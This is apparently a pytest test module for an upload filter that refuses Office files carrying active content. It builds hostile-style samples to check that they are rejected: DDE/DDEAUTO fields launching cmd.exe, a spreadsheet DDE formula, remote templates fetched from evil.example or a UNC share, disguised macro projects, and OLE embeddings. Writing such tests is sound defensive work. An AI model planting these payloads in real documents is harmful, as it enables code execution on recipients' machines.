"""Office files that run or fetch something are refused at upload (issue 10 section 2).

Each case starts from a clean file written by python-docx, openpyxl or python-pptx and adds
one trick, part by part, the way a hostile file carries it.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from content_library import file_types
from content_library.file_types import RejectedFile, extract_text, sniff, template_fields
from tests.test_file_types import content_types, make_docx, make_pptx, make_xlsx, rewrite_zip

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def relationship(kind: str, target: str, external: bool = False, rel_id: str = "rIdX") -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>').encode()


def with_parts(source: Path, target: Path, *, rels: dict[str, bytes] | None = None,
               parts: dict[str, bytes] | None = None, types: bytes = b"",
               replace: dict[str, bytes] | None = None) -> Path:
    """`source` plus relationships (appended to existing rels parts or new ones), parts and
    content type declarations."""
    replace = dict(replace or {})
    add = dict(parts or {})
    with zipfile.ZipFile(source) as zf:
        names = set(zf.namelist())
        for rels_part, rel in (rels or {}).items():
            if rels_part in names:
                old = replace.get(rels_part) or zf.read(rels_part)
                replace[rels_part] = old.replace(b"</Relationships>", rel + b"</Relationships>")
            else:
                add[rels_part] = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
                                  b'xmlns="http://schemas.openxmlformats.org/package/2006/'
                                  b'relationships">' + rel + b"</Relationships>")
    if types:
        replace["[Content_Types].xml"] = content_types(source).replace(b"</Types>",
                                                                      types + b"</Types>")
    return rewrite_zip(source, target, replace, add)


def word_body(inner: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>'
            f"{inner}<w:p><w:r><w:t>Dear customer</w:t></w:r></w:p></w:body></w:document>"
            ).encode()


def field_runs(*codes: str) -> str:
    """A complex field as Word writes it, its code split over runs as given."""
    runs = "".join(f"<w:r><w:instrText xml:space=\"preserve\">{c}</w:instrText></w:r>"
                   for c in codes)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def complex_field(*codes: str) -> str:
    return f"<w:p>{field_runs(*codes)}</w:p>"


DOC_RELS = "word/_rels/document.xml.rels"
OLE_TYPE = b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-' \
           b'officedocument.oleObject"/>'


def docx_cases(clean: Path, tmp: Path) -> dict[str, tuple[Path, str]]:
    def case(name: str, message: str, **changes) -> tuple[str, tuple[Path, str]]:
        return name, (with_parts(clean, tmp / f"{name}.docx", **changes), message)

    dde = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; '
    return dict([
        case("external attachedTemplate", file_types.TEMPLATE_MESSAGE, rels={
            "word/_rels/settings.xml.rels": relationship(
                f"{REL}/attachedTemplate", "https://evil.example/t.dotm", external=True)}),
        case("attachedTemplate on a share", file_types.TEMPLATE_MESSAGE, rels={
            "word/_rels/settings.xml.rels": relationship(
                f"{REL}/attachedTemplate", "file://///evil/share/t.dotm", external=True)}),
        case("ole embedding", file_types.OLE_MESSAGE,
             rels={DOC_RELS: relationship(f"{REL}/oleObject", "embeddings/oleObject1.bin")},
             parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        case("ole content type alone", file_types.OLE_MESSAGE, types=OLE_TYPE,
             parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        case("embedded package outside a chart", file_types.OLE_MESSAGE,
             rels={DOC_RELS: relationship(f"{REL}/package", "embeddings/sheet.xlsx")},
             parts={"word/embeddings/sheet.xlsx": b"PK\x05\x06" + bytes(18)}),
        case("dde in fldSimple", file_types.DDE_MESSAGE, replace={
            "word/document.xml": word_body(f'<w:p><w:fldSimple w:instr="{dde}"/></w:p>')}),
        case("dde split over instrText runs", file_types.DDE_MESSAGE, replace={
            "word/document.xml": word_body(complex_field(" dd", "eAUTO c:\\\\x.exe", ' "a"'))}),
        case("dde spelled with a character reference", file_types.DDE_MESSAGE, replace={
            "word/document.xml": word_body(complex_field("&#68;DE cmd \"/c calc\""))}),
        case("dde nested inside another field", file_types.DDE_MESSAGE, replace={
            "word/document.xml": word_body(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>'
                + field_runs("DDE cmd x")
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')}),
        case("dde in a part typed by its extension", file_types.DDE_MESSAGE,
             types=b'<Default Extension="hdr" ContentType="application/vnd.openxmlformats-'
                   b'officedocument.wordprocessingml.header+xml"/>',
             parts={"word/header9.hdr": word_body(complex_field("DDEAUTO cmd x"))}),
        case("altChunk part", file_types.ALTCHUNK_MESSAGE,
             rels={DOC_RELS: relationship(f"{REL}/aFChunk", "afchunk.mht")},
             parts={"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html></html>"}),
        case("macro project under another name", file_types.MACRO_MESSAGE,
             rels={DOC_RELS: relationship(VBA_REL, "fonts.dat")},
             parts={"word/fonts.dat": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        case("subdocument from a share", file_types.EXTERNAL_LINK_MESSAGE, rels={
            DOC_RELS: relationship(f"{REL}/subDocument", "\\\\evil\\share\\x.docx",
                                   external=True)}),
    ])


@pytest.fixture
def clean_docx(tmp_path: Path) -> Path:
    return make_docx(tmp_path / "clean.docx")


@pytest.mark.parametrize("case", [
    "external attachedTemplate", "attachedTemplate on a share", "ole embedding",
    "ole content type alone", "embedded package outside a chart", "dde in fldSimple",
    "dde split over instrText runs", "dde spelled with a character reference",
    "dde nested inside another field", "dde in a part typed by its extension", "altChunk part",
    "macro project under another name",
    "subdocument from a share",
])
def test_active_word_content_is_refused(tmp_path: Path, clean_docx: Path, case: str) -> None:
    path, message = docx_cases(clean_docx, tmp_path)[case]
    with pytest.raises(RejectedFile) as caught:
        sniff(path)
    assert str(caught.value) == message


def test_ordinary_fields_and_links_are_accepted(tmp_path: Path, clean_docx: Path) -> None:
    body = word_body(
        '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>'
        + complex_field(' HYPERLINK "https://example.com/dde" ')
        + complex_field(" TOC \\o ")
        + "<w:p><w:r><w:t>DDEAUTO is only a word here</w:t></w:r></w:p>")
    path = with_parts(clean_docx, tmp_path / "fields.docx", replace={"word/document.xml": body},
                      rels={DOC_RELS: relationship(f"{REL}/hyperlink", "https://example.com",
                                                   external=True)})
    kind = sniff(path)
    assert kind.kind == "docx"
    assert "DDEAUTO is only a word here" in extract_text(path, kind)


SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
BOOK_RELS = "xl/_rels/workbook.xml.rels"
SLIDE_RELS = "ppt/slides/_rels/slide1.xml.rels"


@pytest.mark.parametrize("kind, case, changes, message", [
    ("xlsx", "external link part", dict(
        types=b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
              b'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
        parts={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
     file_types.EXTERNAL_LINK_MESSAGE),
    ("xlsx", "external link relationship (DDE links live there)", dict(
        rels={BOOK_RELS: relationship(f"{REL}/externalLink", "externalLinks/externalLink1.xml")},
        parts={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
     file_types.EXTERNAL_LINK_MESSAGE),
    ("xlsx", "ole object on a sheet", dict(
        rels={SHEET_RELS: relationship(f"{REL}/oleObject", "../embeddings/oleObject1.bin")},
        parts={"xl/embeddings/oleObject1.bin": bytes(64)}), file_types.OLE_MESSAGE),
    ("xlsx", "macro project under another name", dict(
        rels={BOOK_RELS: relationship(VBA_REL, "styles2.bin")},
        parts={"xl/styles2.bin": bytes(64)}), file_types.MACRO_MESSAGE),
    ("pptx", "embedded ole object", dict(
        rels={SLIDE_RELS: relationship(f"{REL}/oleObject", "../embeddings/oleObject1.bin")},
        parts={"ppt/embeddings/oleObject1.bin": bytes(64)}), file_types.OLE_MESSAGE),
    ("pptx", "ole object linked from a share", dict(
        rels={SLIDE_RELS: relationship(f"{REL}/oleObject", "file:///\\\\evil\\s\\x.xlsx",
                                       external=True)}), file_types.OLE_MESSAGE),
    ("pptx", "embedded workbook", dict(
        rels={SLIDE_RELS: relationship(f"{REL}/package", "../embeddings/book.xlsx")},
        parts={"ppt/embeddings/book.xlsx": b"PK\x05\x06" + bytes(18)}), file_types.OLE_MESSAGE),
    ("pptx", "picture fetched from a share", dict(
        rels={SLIDE_RELS: relationship(f"{REL}/image", "\\\\evil\\s\\x.png", external=True)}),
     file_types.EXTERNAL_LINK_MESSAGE),
    ("pptx", "hyperlink that runs a program", dict(
        rels={SLIDE_RELS: relationship(f"{REL}/hyperlink", "file:///C:/Windows/calc.exe",
                                       external=True)}), file_types.EXTERNAL_LINK_MESSAGE),
    ("pptx", "macro project under another name", dict(
        rels={"ppt/_rels/presentation.xml.rels": relationship(VBA_REL, "media/x.bin")},
        parts={"ppt/media/x.bin": bytes(64)}), file_types.MACRO_MESSAGE),
])
def test_active_excel_and_powerpoint_content_is_refused(tmp_path: Path, kind, case, changes,
                                                        message) -> None:
    clean = {"xlsx": make_xlsx, "pptx": make_pptx}[kind](tmp_path / f"clean.{kind}")
    path = with_parts(clean, tmp_path / f"active.{kind}", **changes)
    with pytest.raises(RejectedFile) as caught:
        sniff(path)
    assert str(caught.value) == message


def sheet_with_formula(clean: Path, formula: str) -> bytes:
    with zipfile.ZipFile(clean) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
    assert b"<f>B1*120</f>" in sheet
    return sheet.replace(b"<f>B1*120</f>", f"<f>{formula}</f>".encode())


def test_a_dde_formula_is_refused_and_a_bar_in_quoted_text_is_not(tmp_path: Path) -> None:
    clean = make_xlsx(tmp_path / "clean.xlsx")
    dde = with_parts(clean, tmp_path / "dde.xlsx", replace={
        "xl/worksheets/sheet1.xml": sheet_with_formula(clean, "cmd|' /C calc'!A0")})
    with pytest.raises(RejectedFile) as caught:
        sniff(dde)
    assert str(caught.value) == file_types.DDE_MESSAGE
    quoted = with_parts(clean, tmp_path / "bar.xlsx", replace={
        "xl/worksheets/sheet1.xml": sheet_with_formula(clean, '"a|b"&amp;B1')})
    assert sniff(quoted).kind == "xlsx"


@pytest.fixture
def clean_pptx(tmp_path: Path) -> Path:
    return make_pptx(tmp_path / "clean.pptx")


def test_a_chart_workbook_and_a_web_video_are_accepted(tmp_path: Path, clean_pptx: Path) -> None:
    chart = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    path = with_parts(
        clean_pptx, tmp_path / "chart.pptx",
        types=f'<Override PartName="/ppt/charts/chart1.xml" ContentType="{chart}"/>'.encode(),
        parts={"ppt/charts/chart1.xml": b"<c:chartSpace xmlns:c='urn:c'/>",
               "ppt/embeddings/book.xlsx": b"PK\x05\x06" + bytes(18)},
        rels={"ppt/charts/_rels/chart1.xml.rels": relationship(
                  f"{REL}/package", "../embeddings/book.xlsx"),
              SLIDE_RELS: relationship(f"{REL}/video", "https://www.youtube.com/embed/x",
                                       external=True)})
    assert sniff(path).kind == "pptx"


def test_refusal_comes_before_anything_is_stored(app, taxonomy, make_user, login, client,
                                                  tmp_path: Path, clean_docx: Path) -> None:
    import io

    from tests.conftest import page_token

    path, message = docx_cases(clean_docx, tmp_path)["dde split over instrText runs"]
    _, manager = make_user("manager")
    login(manager)
    response = client.post("/library/new", content_type="multipart/form-data", data={
        "csrf_token": page_token(client, "/library/new"), "title": "Letter", "type": "case-study",
        "audience": "external", "status": "published", "stages": "understanding-offerings",
        "file": (io.BytesIO(path.read_bytes()), "letter.docx")})
    assert response.status_code == 400
    assert message.startswith("Office files with DDE fields")
    assert message.replace("'", "&#39;") in response.get_data(as_text=True)


# --- bounded work ---------------------------------------------------------------------------


def many_paragraphs(clean: Path, target: Path, count: int) -> Path:
    body = "".join(f"<w:p><w:r><w:t>Paragraph {n} {{{{field_{n}}}}}</w:t></w:r></w:p>"
                   for n in range(count))
    return with_parts(clean, target, replace={"word/document.xml": word_body(body)})


def test_reading_text_stops_after_a_bounded_amount_of_xml(tmp_path: Path, clean_docx: Path,
                                                           monkeypatch) -> None:
    path = many_paragraphs(clean_docx, tmp_path / "long.docx", 5_000)
    kind = sniff(path)
    whole = extract_text(path, kind)
    assert "Paragraph 4999" in whole and len(template_fields(path, kind)) == 500
    monkeypatch.setattr(file_types, "MAX_EXTRACT_XML_BYTES", 20_000)
    cut = extract_text(path, kind)
    assert cut.startswith("Paragraph 0") and "Paragraph 4999" not in cut
    assert len(cut) < len(whole) / 10
    fields = template_fields(path, kind)
    assert fields[0] == "field_0" and len(fields) < 500


def test_reading_text_stops_when_its_time_is_up(tmp_path: Path, clean_docx: Path,
                                                monkeypatch) -> None:
    path = many_paragraphs(clean_docx, tmp_path / "long.docx", 5_000)
    kind = sniff(path)
    monkeypatch.setattr(file_types, "EXTRACT_SECONDS", 0.0)
    assert "Paragraph 4999" not in (extract_text(path, kind) or "")


def test_a_word_file_too_large_to_check_for_fields_is_refused(tmp_path: Path, clean_docx: Path,
                                                             monkeypatch) -> None:
    path = many_paragraphs(clean_docx, tmp_path / "long.docx", 5_000)
    assert sniff(path).kind == "docx"
    monkeypatch.setattr(file_types, "MAX_FIELD_SCAN_BYTES", 100_000)
    with pytest.raises(RejectedFile) as caught:
        sniff(path)
    assert str(caught.value) == file_types.TOO_LARGE_TO_CHECK_MESSAGE
